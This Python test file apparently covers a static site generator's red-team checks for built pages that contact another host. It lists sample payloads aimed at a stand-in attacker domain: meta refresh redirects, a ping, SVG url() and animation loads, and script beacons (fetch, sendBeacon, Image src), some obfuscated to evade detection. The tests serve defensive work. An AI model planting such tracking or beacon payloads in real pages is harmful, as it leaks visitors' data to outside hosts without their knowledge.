"""Red team 7, M3-M5 (docs/redteam/2026-11-30-seventh.md): what else makes a built
page ask another host, with no choice of the reader's.

* M3: a ``<meta http-equiv="refresh">`` to another host, an ``<a ping>``/``<area
  ping>``; M4: SVG animation values and presentation ``url()``s. Each is a
  ``remote-resource`` error in a note and an audit refusal in any written page.
* M5: a written script naming another host is refused by the audit; the default
  theme's scripts and Pagefind's own pass.
* With the filter's check off the audit refuses the page; with both off, the page
  is published asking that host.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from test_leaks_remote import EVIL, TOML, build_notes, page, site
from unit_helpers import write_site

from ivsite.audit import markupchecks as auditmarkup
from ivsite.markup.remoteloads import remote_loads
from ivsite.markup.scriptloads import remote_in_script
from ivsite.pipeline import build
from ivsite.validate import note as validate

OWN = "ana.example.org"
THEME = Path(__file__).resolve().parents[1] / "themes/default"

ASKING = {
    "refresh": f'<meta http-equiv="refresh" content="0;url=https://tracker.{EVIL}/?from=x">',
    "refresh, upper case, quoted": f"<meta http-equiv=REFRESH content=\"5; URL='//{EVIL}/'\">",
    "refresh, comma, no url=": f'<meta http-equiv="refresh" content="0, https://{EVIL}/">',
    "refresh, entities": f'<meta http-equiv="refresh" content="0;url=https&#58;//{EVIL}/">',
    "a ping": f'<a href="/about/" ping="https://ping.{EVIL}/p">about</a>',
    "area ping": f'<map><area href="/" ping="/ok https://{EVIL}/p" alt="x"></map>',
    "animate href values": ('<svg><image width="9" height="9"><animate attributeName="href" '
                            f'values="a.png;https://s04.{EVIL}/i.png" dur="1s"/></image></svg>'),
    "set href to": ('<svg><image><set attributeName="href" '
                    f'to="https://s05.{EVIL}/i.png"/></image></svg>'),
    "set fill url()": ('<svg><rect><set attributeName="fill" '
                       f'to="url(https://s13.{EVIL}/p.svg#p)"/></rect></svg>'),
    "animateMotion from": (f'<svg><animateMotion attributeName="xlink:href" '
                           f'from="//{EVIL}/a" to="b"/></svg>'),
    "animate by": f'<svg><animate attributeName="src" by="https://{EVIL}/a"/></svg>',
    **{f"{name} url()": f'<svg><rect width="9" height="9" {name}="url(https://{EVIL}/x#y)"/></svg>'
       for name in ("fill", "stroke", "mask", "clip-path", "filter", "marker-start",
                    "marker-mid", "marker-end", "cursor")},
}
QUIET = {
    "refresh to this site": '<meta http-equiv="refresh" content="3;url=/elsewhere/">',
    "refresh, no address": '<meta http-equiv="refresh" content="30">',
    "ping on this site": '<a href="/about/" ping="/count">about</a>',
    "animation of numbers": '<svg><rect><animate attributeName="x" values="0;10"/></rect></svg>',
    "fill with a local url()": '<svg><rect fill="url(#grad)" marker-end="url(#m)"/></svg>',
    "own host": f'<svg><rect fill="url(https://{OWN}/p.svg#p)"/></svg>',
}


@pytest.mark.parametrize("markup", ASKING.values(), ids=ASKING.keys())
def test_each_request_is_found_by_the_filter_and_the_audit(markup: str) -> None:
    assert any(EVIL in what for what in remote_loads(markup, OWN)), markup
    found = auditmarkup.unsafe_markup(f"<html><body>{markup}</body></html>", OWN)
    assert any(EVIL in what for what in found), markup


@pytest.mark.parametrize("markup", QUIET.values(), ids=QUIET.keys())
def test_what_asks_no_other_host_is_let_through(markup: str) -> None:
    assert list(remote_loads(markup, OWN)) == []


def test_each_is_a_remote_resource_error_in_a_note(tmp_path: Path) -> None:
    result, found = build_notes(tmp_path, ASKING, QUIET)
    assert result.status == 1
    assert found == {f"content/pages/r{i}.md" for i in range(len(ASKING))}


REPRODUCER = (f'<meta http-equiv="refresh" content="0;url=https://tracker.{EVIL}/">\n\n'
              f'<svg width="9" height="9"><rect width="9" height="9" '
              f'fill="url(https://s14.{EVIL}/p.svg#p)"/></svg>')


def test_with_the_filters_check_off_the_audit_refuses_the_page(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(validate, "remote_resources", lambda *args: False)
    result = build(site(tmp_path, REPRODUCER), out=tmp_path / "out")
    assert result.status == 1
    said = [h.text() for h in result.hits if h.output == "about/index.html"]
    assert any(f"refresh sends the visitor to tracker.{EVIL}" in s for s in said), said
    assert any(f"'fill' of <rect> loads s14.{EVIL}" in s for s in said), said
    assert not (tmp_path / "out").exists()


def test_with_the_audit_off_too_the_page_is_published_asking_that_host(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(validate, "remote_resources", lambda *args: False)
    monkeypatch.setattr(auditmarkup, "unsafe_markup", lambda page, own: [])
    result = build(site(tmp_path, REPRODUCER), out=tmp_path / "out")
    assert result.status == 0, result.diagnostics
    text = (tmp_path / "out/about/index.html").read_text("utf-8")
    assert f"tracker.{EVIL}" in text and f"s14.{EVIL}" in text


# ------------------------------------------------------------ a theme's own files

def theme_site(tmp_path: Path, files: dict[str, str]) -> Path:
    toml = TOML + 'theme = "mine"\n'
    return write_site(tmp_path / "s", {"content/pages/about.md": page("Hi."),
                                       "content/pages/index.md": page("Welcome."),
                                       **files}, toml=toml)


def test_a_themes_refresh_to_another_host_is_refused_by_the_audit(tmp_path: Path) -> None:
    base = (THEME / "templates/base.html").read_text("utf-8").replace(
        "<head>", f'<head><meta http-equiv="refresh" content="5;url=https://tpl.{EVIL}/">', 1)
    assert f"tpl.{EVIL}" in base
    result = build(theme_site(tmp_path, {"themes/mine/templates/base.html": base}),
                   out=tmp_path / "out")
    assert result.status == 1
    assert any(f"tpl.{EVIL}" in h.text() for h in result.hits)
    assert not (tmp_path / "out").exists()


SCRIPTS = {
    "double quotes": f'fetch("https://plain.{EVIL}/x");',
    "single quotes, protocol-relative": f"fetch('//a.{EVIL}/x')",
    "template literal": f"fetch(`https://b.{EVIL}/${{location.pathname}}`)",
    "escaped slashes": f'new Image().src = "https:\\/\\/c.{EVIL}/p";',
    "hex escape": f'navigator.sendBeacon("\\x68ttps://d.{EVIL}/b")',
    "after an escape": f'x = "a\\nwss://e.{EVIL}/s"',
    "no slashes": f'fetch("http:f.{EVIL}/x")',
    "inside markup": f"el.innerHTML = '<img src=\"https://g.{EVIL}/p\">'",
}


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_each_address_in_a_script_is_found(script: str) -> None:
    assert any(EVIL in what for what in remote_in_script(script, OWN)), script


def test_a_script_naming_no_other_host_is_let_through() -> None:
    quiet = ('/*! licence: https://markjs.io/ */\nfetch("/search.json");'
             f'fetch("https://{OWN}/x"); var t = "Ann <https://github.com/ann>";'
             'document.createElementNS("http://www.w3.org/2000/svg", "svg");'
             'new URL(p, "https://p"); new URL(`https://example.com${p}`);')
    assert list(remote_in_script(quiet, OWN)) == []


def test_a_themes_script_that_fetches_another_host_is_refused(tmp_path: Path) -> None:
    root = theme_site(tmp_path, {"themes/mine/static/theme.js":
                                 f'fetch("https://plain.{EVIL}/x");\n'})
    result = build(root, out=tmp_path / "out")
    assert result.status == 1
    assert [h.output for h in result.hits if EVIL in h.text()] == ["static/theme.js"]
    assert not (tmp_path / "out").exists()


def test_with_the_audits_check_off_the_script_is_published(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(auditmarkup._SHEET_OR_SCRIPT, ".js", lambda script, own: [])
    root = theme_site(tmp_path, {"themes/mine/static/theme.js":
                                 f'fetch("https://plain.{EVIL}/x");\n'})
    result = build(root, out=tmp_path / "out")
    assert result.status == 0, result.diagnostics
    assert EVIL in (tmp_path / "out/static/theme.js").read_text("utf-8")


def test_the_default_themes_and_pagefinds_scripts_pass(tmp_path: Path) -> None:
    root = write_site(tmp_path / "s", {"content/pages/about.md": page("Hi."),
                                       "content/pages/index.md": page("Welcome.")}, toml=TOML)
    result = build(root, out=tmp_path / "out")
    assert result.status == 0, result.diagnostics
    scripts = [p for p in (tmp_path / "out").rglob("*") if p.suffix in (".js", ".mjs")]
    assert any(p.parent.name == "pagefind" for p in scripts), scripts
    assert any(p.parent.name == "static" for p in scripts), scripts
    for p in scripts:
        assert list(remote_in_script(p.read_text("utf-8", "replace"), OWN)) == [], p
